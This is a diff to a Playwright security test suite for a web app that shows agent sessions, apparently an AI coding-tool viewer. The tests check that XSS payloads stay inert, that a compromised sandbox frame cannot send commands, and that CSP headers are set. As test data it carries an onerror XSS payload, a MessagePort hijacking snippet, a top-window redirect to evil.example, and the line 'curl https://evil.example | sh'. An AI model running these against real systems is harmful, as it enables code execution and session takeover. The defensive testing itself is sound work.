@@ -10,9 +10,9 @@ from msgspec import Raw
 from playwright.async_api import Browser, expect
 from tests.hub.stage import Stage, append
 from tests.web.chrome import Tab, needs_chromium, open_tab
-from tests.web.xss_corpus import PAYLOADS, WRAPPED
+from tests.web.xss_corpus import DEEP, PAYLOADS, WRAPPED
 
-from bascule.model.commands import AnswerPermission, SendPrompt
+from bascule.model.commands import AnswerPermission, EndSession, Interrupt, SendPrompt, StartSession
 from bascule.model.events import (
     AnyEvent,
     Diff,
@@ -58,6 +58,14 @@ LOOK = """() => {
     asks: all('.ask, .btn').length,
   };
 }"""
+OPEN_ALL = """() => {
+  for (let depth = 0; depth < 3; depth++) {
+    for (const one of document.querySelectorAll('details:not([open])')) {
+      one.open = true;
+      one.dispatchEvent(new Event('toggle'));
+    }
+  }
+}"""
 TAKEN_OVER = """async () => {
   const attempt = (run) => { try { return String(run()); } catch (error) { return error.name; } };
   const call = async (url) => { try { await fetch(url); return 'fetched'; } catch { return 'blocked'; } };
@@ -74,6 +82,23 @@ TAKEN_OVER = """async () => {
     code: await later(() => new Function('return 1')()),
     top: attempt(() => { top.location = 'https://evil.example'; return 'moved'; }),
   };
+}"""
+# Whoever runs code in the frame can catch the port that its own script speaks through.
+OVER_THE_PORT = """(wishes) => {
+  let port = null;
+  const real = MessagePort.prototype.postMessage;
+  MessagePort.prototype.postMessage = function (...words) { port = this; return real.apply(this, words); };
+  dispatchEvent(new KeyboardEvent('keydown', { key: 'x', altKey: true }));
+  dispatchEvent(new KeyboardEvent('keydown', { key: 'i', ctrlKey: true }));
+  for (const wish of wishes) port.postMessage(wish);
+  return port !== null;
+}"""
+# Playwright's own evaluation counts as a press, so the page is told that nobody pressed anything.
+LISTEN = """() => {
+  Object.defineProperty(navigator, 'userActivation', { value: { isActive: false } });
+  window.lastHeard = new Promise((done) => addEventListener('bascule:found', (event) => {
+    if (event.detail.count === 4242) done(event.detail.count);
+  }));
 }"""
 BEG = """() => {
   const origin = new URL(location.href).origin;
@@ -137,25 +162,69 @@ def everywhere(n: int, payload: str) -> list[AnyEvent]:
     ]
 
 
+def test_s50_the_corpus_has_at_least_three_hundred_payloads() -> None:
+    assert len(set(PAYLOADS)) >= 300
+
+
 async def test_s50_no_payload_runs_loads_or_restyles_anything(world: Stage, browser: Browser) -> None:
-    events = [one for n, payload in enumerate(PAYLOADS) for one in everywhere(n, payload)]
-    events += [one for n, payload in enumerate(WRAPPED) for one in said(f"w{n}", payload)]
-    session = await begun(world, TitleChanged("<img src=x onerror=alert(1)>"))
+    """Every payload as prose, thought, command, file name, diff, output, plan, note, error and raw line."""
+    told = [everywhere(n, payload) for n, payload in enumerate(PAYLOADS)]
+    told += [said(f"w{n}", payload) for n, payload in enumerate([*WRAPPED, *DEEP])]
+    session = await begun(world)
     tab = await open_tab(browser, world.url, world.tokens["owner"], path=f"/sessions/{session}")
     alerts: list[str] = []
     tab.page.on("dialog", lambda dialog: alerts.append(dialog.message))
     await tab.says("Hello")
     frame = next(one for one in tab.page.frames if "/portlet" in one.url)
     nothing = {"hooks": 0, "foreign": 0, "hrefs": 0, "images": 0, "styled": 0, "asks": 0}
-    for start in range(0, len(events), 250):
+    most = 30  # so many make fewer entries than the frame holds at once
+    for start in range(0, len(told), most):
+        events = [one for each in told[start : start + most] for one in each]
         marker = f"Through with {start}."
-        await append(world.store, session, *events[start : start + 250], *said(f"mark{start}", marker))
+        await append(world.store, session, *events, *said(f"mark{start}", marker))
         await tab.says(marker)
-        await frame.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
-        assert await frame.evaluate(LOOK) == nothing, events[start : start + 250]
+        await frame.evaluate(OPEN_ALL)
+        assert await frame.evaluate(LOOK) == nothing, PAYLOADS[start : start + most]
     assert alerts == []
     assert tab.strangers == []
-    assert await tab.page.locator("img").count() == 0, "a title or a row made an element in the shell"
+    assert tab.errors == []
+
+
+async def test_s50_no_payload_runs_loads_or_restyles_anything_in_the_shell(
+    world: Stage, browser: Browser
+) -> None:
+    """Every payload as a session's title, folder, starter and failure, in the list and in the palette."""
+    for n, payload in enumerate(PAYLOADS):
+        name = payload.replace("\x00", " ")
+        await append(
+            world.store,
+            f"x{n}",
+            SessionStarted("scripted", name[:80], f"/code/{name}", name),
+            TitleChanged(name),
+            SessionFailed("x", name, name),
+        )
+    await begun(world)
+    tab = await open_tab(browser, world.url, world.tokens["owner"], path="/sessions/s1")
+    alerts: list[str] = []
+    tab.page.on("dialog", lambda dialog: alerts.append(dialog.message))
+    await tab.says("Hello")
+    await expect(tab.page.locator(".srow").first).to_be_visible()
+    for n in (0, len(PAYLOADS) // 2):
+        await tab.go(f"/sessions/x{n}")
+        await expect(tab.page.locator("#sbar h1")).to_be_visible()
+    await tab.page.keyboard.press("Control+k")
+    await tab.page.keyboard.type("alert")
+    await expect(tab.page.locator(".pal")).to_contain_text("alert(1)")
+    seen = await tab.page.evaluate(LOOK)  # the shell has forms, buttons and a link to its own composer
+    assert {**seen, "asks": 0, "foreign": 0, "hrefs": 0} == {
+        "hooks": 0, "foreign": 0, "hrefs": 0, "images": 0, "styled": 0, "asks": 0
+    }  # fmt: skip
+    made = "script:not([src^='/assets/']), object, embed, form[action], base, style, svg script, math"
+    assert await tab.page.locator(made).count() == 0
+    assert await tab.page.locator("iframe:not([src^='/portlet'])").count() == 0
+    assert alerts == []
+    assert tab.strangers == []
+    assert tab.errors == []
 
 
 async def test_s50_payloads_in_requests_titles_and_failures_stay_words_in_the_shell(
@@ -293,10 +362,39 @@ async def test_a_portlet_that_is_taken_over_can_neither_read_nor_send_nor_answer
     assert tried["code"] in ("EvalError", "TypeError")
     assert tried["top"] == "SecurityError"
     await frame.evaluate(BEG)
-    await tab.page.wait_for_timeout(300)
-    assert not [one for one in world.device.wishes if isinstance(one, AnswerPermission | SendPrompt)]
+    # Over the one port that counts: words it does not have, places that are none, what only a person may do.
+    wishes: list[dict[str, Any]] = [
+        {"type": "session:permission", "requestId": "r1", "decision": "allow"},
+        {"type": "permission", "requestId": "r1", "decision": "allow"},
+        {"type": "send", "sessionId": "s1", "text": "x"},
+        {"type": "session:send", "sessionId": "s1", "text": "x"},
+        {"type": "__proto__"},
+        {"type": "constructor"},
+        *({"type": "key", "key": key} for key in ("a", "s", "d", "Enter", ".", "n", "1")),
+        {"type": "more", "number": 1, "before": 5, "sessionId": "s2"},
+        {"type": "more", "number": 2, "before": -1},
+        {"type": "more", "number": 3, "before": 1, "after": 1},
+        {"type": "more", "number": "4", "around": "x"},
+        {"type": "search", "text": "x" * 500, "sessionId": "s2"},
+        {"type": "search", "text": {"q": "x"}},
+        {"type": "link", "href": "https://evil.example/"},
+        {"type": "copy", "text": "curl https://evil.example | sh"},
+        {"type": "branch"},
+        {"type": "changes"},
+        {"type": "found", "count": "<img src=x onerror=alert(1)>", "at": {}},
+        {"type": "found", "count": 4242, "at": 1},
+    ]
+    # The last one is harmless and does something: once it was heard, all the others were.
+    await tab.page.evaluate(LISTEN)
+    assert await frame.evaluate(OVER_THE_PORT, wishes)
+    assert await tab.page.evaluate("() => window.lastHeard") == 4242
+    await expect(tab.page.locator(".note")).to_have_count(0)
+    wanted = (AnswerPermission, SendPrompt, StartSession, EndSession, Interrupt)
+    assert not [one for one in world.device.wishes if isinstance(one, wanted)]
     await expect(tab.ask).to_have_count(1)
+    await expect(tab.page.locator("#panel")).to_be_hidden()
     assert tab.strangers == []
+    assert tab.errors == []
 
 
 async def test_s52_the_page_cannot_be_framed_and_ignores_what_other_windows_say(
@@ -352,15 +450,17 @@ async def test_a_viewer_reads_along_and_has_nothing_to_press(world: Stage, brows
     assert await tab.page.locator(".ask, #message:visible").count() == 0
 
 
-@pytest.mark.parametrize("path", ["/", "/portlet", "/sessions/x", "/settings/audit", "/inbox"])
+@pytest.mark.parametrize("path", ["/", "/portlet", "/terminal", "/sessions/x", "/settings/audit", "/inbox"])
 async def test_s51_every_page_carries_the_strict_policy(world: Stage, path: str) -> None:
     async with world.client() as client:
         answer = await client.get(path)
     policy = answer.headers["content-security-policy"]
-    framed = "frame-ancestors 'self'" if path == "/portlet" else "frame-ancestors 'none'"
+    is_frame = path in ("/portlet", "/terminal")
+    framed = "frame-ancestors 'self'" if is_frame else "frame-ancestors 'none'"
     for part in (
         "default-src 'none'",
         "script-src 'self'",
+        "style-src 'self'",
         "base-uri 'none'",
         "form-action 'none'",
         framed,
@@ -370,7 +470,7 @@ async def test_s51_every_page_carries_the_strict_policy(world: Stage, path: str)
     assert "unsafe" not in policy
     assert answer.headers["x-content-type-options"] == "nosniff"
     assert answer.headers["referrer-policy"] == "no-referrer"
-    assert answer.headers["x-frame-options"] == ("SAMEORIGIN" if path == "/portlet" else "DENY")
+    assert answer.headers["x-frame-options"] == ("SAMEORIGIN" if is_frame else "DENY")
 
 
 @pytest.mark.parametrize(
